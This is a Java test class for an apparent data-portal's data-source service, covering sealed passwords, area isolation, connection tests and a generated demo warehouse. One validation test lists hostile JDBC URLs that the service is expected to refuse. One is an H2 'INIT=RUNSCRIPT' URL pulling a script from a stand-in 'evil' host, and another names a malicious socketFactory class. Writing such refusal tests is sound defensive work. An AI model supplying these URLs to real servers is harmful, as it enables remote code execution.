package io.esteira.features;

import static io.esteira.support.Personas.ADMIN;
import static io.esteira.support.Personas.DS_CREDIT;
import static io.esteira.support.Personas.DS_FRAUD;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;

import io.esteira.areas.AreaService;
import io.esteira.areas.AreaSummary;
import io.esteira.identity.ApiTokenService;
import io.esteira.identity.TokenRequest;
import io.esteira.shared.InvalidRequestException;
import io.esteira.shared.NotFoundException;
import io.esteira.support.Api;
import io.esteira.support.Api.Response;
import io.esteira.support.AuditTrail;
import io.esteira.support.Personas;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.ResultSet;
import java.time.Duration;
import java.time.LocalDate;
import java.util.UUID;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.data.domain.PageRequest;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.security.access.AccessDeniedException;

/** Data sources: sealed passwords, refused addresses, connection tests, the demo warehouse, and isolation. */
abstract class DataSourceScenarios {

    @Autowired
    DataSourceService sources;
    @Autowired
    DemoWarehouse warehouse;
    @Autowired
    AreaService areas;
    @Autowired
    ApiTokenService tokens;
    @Autowired
    Personas personas;
    @Autowired
    AuditTrail audit;
    @Autowired
    Api api;
    @Autowired
    JdbcTemplate jdbc;
    @Autowired
    QuerySources querySources;

    UUID credit;

    @BeforeEach
    void findCredit() {
        credit = personas.call(ADMIN, areas::myAreas).stream().filter(a -> a.code().equals("CREDIT")).map(AreaSummary::id)
                .findFirst().orElseThrow();
    }

    static String unique(String prefix) {
        return prefix + " " + UUID.randomUUID().toString().substring(0, 8);
    }

    DataSourceDraft h2(String name, String password, UUID owner) {
        return new DataSourceDraft(name, "test source", "jdbc:h2:mem:" + UUID.randomUUID() + ";DB_CLOSE_DELAY=10",
                "org.h2.Driver", "sa", password, Classification.SPEC, owner);
    }

    @Test
    void theDemoWarehouseIsGeneratedInTheBackgroundAndRegistered() throws Exception {
        await().atMost(Duration.ofSeconds(90)).until(() -> warehouse.progress().finished());
        assertThat(warehouse.progress().error()).isNull();
        assertThat(warehouse.progress().percent()).isEqualTo(100);
        try (Connection c = DriverManager.getConnection(warehouse.url(), "sa", "");
                ResultSet rs = c.createStatement().executeQuery(
                        "select (select count(*) from bank.customers), count(*), sum(case when is_fraud then 1 else 0 end), "
                                + "count(distinct merchant_category), min(amount), max(amount) from bank.card_transactions")) {
            rs.next();
            assertThat(rs.getLong(1)).isEqualTo(2000);
            assertThat(rs.getLong(2)).isEqualTo(30000);
            assertThat(rs.getLong(3)).as("a fraud label on a few percent").isBetween(30L, 1500L);
            assertThat(rs.getLong(4)).isEqualTo(10);
            assertThat(rs.getBigDecimal(5).signum()).isPositive();
        }
        DataSourceSummary demo = personas.call(DS_CREDIT, () -> sources.list(DemoWarehouse.SOURCE_NAME, PageRequest.of(0, 5)))
                .getContent().getFirst();
        assertThat(demo.classification()).isEqualTo(Classification.SOT);
        ConnectionTest test = personas.call(ADMIN, () -> sources.test(demo.id()));
        assertThat(test.ok()).as(test.message()).isTrue();
        assertThat(test.message()).startsWith("Connected to H2");
    }

    @Test
    void otherModulesGetConnectionsOnlyForSourcesTheAreaMayUseAndWriteNeverIntoASystemOfRecord() throws Exception {
        UUID fraud = personas.call(ADMIN, areas::myAreas).stream().filter(a -> a.code().equals("FRAUD")).map(AreaSummary::id)
                .findFirst().orElseThrow();
        UUID fraudsOwn = personas.call(ADMIN, () -> sources.create(h2(unique("fraud's own"), "", fraud))).id();
        assertThatThrownBy(() -> open(DS_CREDIT, fraudsOwn, credit, false)).as("another area's source, read")
                .isInstanceOf(NotFoundException.class);
        assertThatThrownBy(() -> open(DS_CREDIT, fraudsOwn, credit, true)).as("another area's source, written")
                .isInstanceOf(NotFoundException.class);
        assertThat(open(DS_FRAUD, fraudsOwn, fraud, true)).as("the owner area's connection").isTrue();

        DataSourceDraft record = h2(unique("system of record"), "", null);
        UUID sor = personas.call(ADMIN, () -> sources.create(new DataSourceDraft(record.name(), record.description(), record.jdbcUrl(),
                record.driverClass(), record.username(), record.password(), Classification.SOR, null))).id();
        assertThatThrownBy(() -> open(DS_CREDIT, sor, credit, true)).as("a system of record, written")
                .isInstanceOfAny(io.esteira.shared.ForbiddenException.class, NotFoundException.class);
    }

    /** Opens a connection as the person, as a scheduled query of the area would; true when it is valid. */
    private boolean open(String person, UUID source, UUID area, boolean forWriting) {
        return personas.call(person, () -> {
            try (Connection c = forWriting ? querySources.openForWriting(source, area) : querySources.openReadOnly(source, area)) {
                return c.isValid(2);
            } catch (java.sql.SQLException e) {
                throw new IllegalStateException(e);
            }
        });
    }

    @Test
    void aPasswordIsSealedAtRestAndNeverShownOrAudited() {
        DataSourceSummary created = personas.call(ADMIN, () -> sources.create(h2(unique("sealed"), "Pa55-word-xyz", null)));
        assertThat(created.hasPassword()).isTrue();
        assertThat(created.toString()).doesNotContain("Pa55-word-xyz");
        String stored = jdbc.queryForObject("select password_sealed from data_source where id = ?", String.class, created.id());
        assertThat(stored).startsWith("v1:").doesNotContain("Pa55-word-xyz");
        assertThat(audit.awaitEntry(AuditTrail.actionOn("data-source.created", created.id().toString())).details())
                .doesNotContain("Pa55-word-xyz");

        String token = personas.call(ADMIN, () -> tokens.create(new TokenRequest("ds admin", null, LocalDate.now().plusDays(3), false))).secret();
        Response read = api.get("/api/v1/data-sources/" + created.id(), token);
        assertThat(read.status()).isEqualTo(200);
        assertThat(read.body()).doesNotContain("Pa55-word-xyz").doesNotContain("v1:").contains("\"hasPassword\":true");

        // an empty password on a change keeps the stored one
        DataSourceSummary renamed = personas.call(ADMIN, () -> sources.update(created.id(),
                new DataSourceDraft(created.name() + " renamed", "", created.jdbcUrl(), "org.h2.Driver", "sa", "", Classification.SOT, null),
                created.version()));
        assertThat(renamed.hasPassword()).isTrue();
        assertThat(jdbc.queryForObject("select password_sealed from data_source where id = ?", String.class, created.id())).isEqualTo(stored);
    }

    @Test
    void dangerousOrWrongAddressesAreRefusedAndStoreNothing() {
        long before = jdbc.queryForObject("select count(*) from data_source", Long.class);
        personas.run(ADMIN, () -> {
            assertRefused(new DataSourceDraft(unique("no jdbc"), "", "postgresql://db/x", "org.postgresql.Driver", null, null, Classification.SOR, null),
                    "jdbcUrl", "starts with jdbc:");
            assertRefused(new DataSourceDraft(unique("init"), "", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "org.h2.Driver", null, null, Classification.SOR, null),
                    "jdbcUrl", "not allowed");
            assertRefused(new DataSourceDraft(unique("factory"), "", "jdbc:postgresql://db/x?socketFactory=org.example.Evil", "org.postgresql.Driver", null, null, Classification.SOR, null),
                    "jdbcUrl", "socketFactory");
            assertRefused(new DataSourceDraft(unique("own"), "", "jdbc:h2:file:target/test-data/db/esteira", "org.h2.Driver", null, null, Classification.SOR, null),
                    "jdbcUrl", "portal's own database");
            assertRefused(new DataSourceDraft(unique("pw in url"), "", "jdbc:postgresql://db/x?password=oops", "org.postgresql.Driver", null, null, Classification.SOR, null),
                    "jdbcUrl", "password field");
            assertRefused(new DataSourceDraft(unique("driver"), "", "jdbc:oracle:thin:@db:1521/x", "oracle.jdbc.OracleDriver", null, null, Classification.SOR, null),
                    "jdbcUrl", "Only PostgreSQL");
            assertRefused(new DataSourceDraft(unique("driver"), "", "jdbc:h2:mem:x", "oracle.jdbc.OracleDriver", null, null, Classification.SOR, null),
                    "driverClass", "is not installed");
        });
        assertThat(jdbc.queryForObject("select count(*) from data_source", Long.class)).isEqualTo(before);
    }

    void assertRefused(DataSourceDraft draft, String field, String message) {
        assertThatThrownBy(() -> sources.create(draft)).isInstanceOf(InvalidRequestException.class)
                .satisfies(e -> assertThat(((InvalidRequestException) e).fieldErrors()).containsKey(field))
                .hasMessageContaining(message);
    }

    @Test
    void aFailedConnectionTestSaysWhyAndIsRecorded() {
        DataSourceSummary unreachable = personas.call(ADMIN, () -> sources.create(new DataSourceDraft(unique("unreachable"), "",
                "jdbc:postgresql://127.0.0.1:1/nowhere", "org.postgresql.Driver", "nobody", "secret-xyz", Classification.SOR, null)));
        ConnectionTest result = personas.call(ADMIN, () -> sources.test(unreachable.id()));
        assertThat(result.ok()).isFalse();
        assertThat(result.message()).startsWith("Connection failed:").doesNotContain("secret-xyz");
        DataSourceSummary after = personas.call(ADMIN, () -> sources.get(unreachable.id()));
        assertThat(after.lastTestOk()).isFalse();
        assertThat(audit.awaitEntry(AuditTrail.actionOn("data-source.tested", unreachable.id().toString())).outcome())
                .isEqualTo("FAILED");
    }

    @Test
    void anAreasSourceStaysInsideTheArea() {
        DataSourceSummary creditOnly = personas.call(ADMIN, () -> sources.create(h2(unique("credit only"), null, credit)));
        assertThat(personas.call(DS_CREDIT, () -> sources.get(creditOnly.id())).ownerArea()).isEqualTo("Credit Risk");
        personas.run(DS_FRAUD, () -> {
            assertThatThrownBy(() -> sources.get(creditOnly.id())).isInstanceOf(NotFoundException.class);
            assertThatThrownBy(() -> sources.test(creditOnly.id())).isInstanceOf(NotFoundException.class);
            assertThat(sources.list("", PageRequest.of(0, 500)).getContent()).extracting(DataSourceSummary::id)
                    .doesNotContain(creditOnly.id());
            assertThatThrownBy(() -> sources.create(h2(unique("sneaky"), null, null))).isInstanceOf(AccessDeniedException.class);
        });
        String fraudToken = personas.call(DS_FRAUD, () -> tokens.create(new TokenRequest("fraud ds", null, LocalDate.now().plusDays(3), false))).secret();
        assertThat(api.get("/api/v1/data-sources/" + creditOnly.id(), fraudToken).status()).isEqualTo(404);
        assertThat(api.post("/api/v1/data-sources", fraudToken, """
                {"name":"x","jdbcUrl":"jdbc:h2:mem:x","driverClass":"org.h2.Driver","classification":"SOR"}""").status()).isEqualTo(403);
    }
}
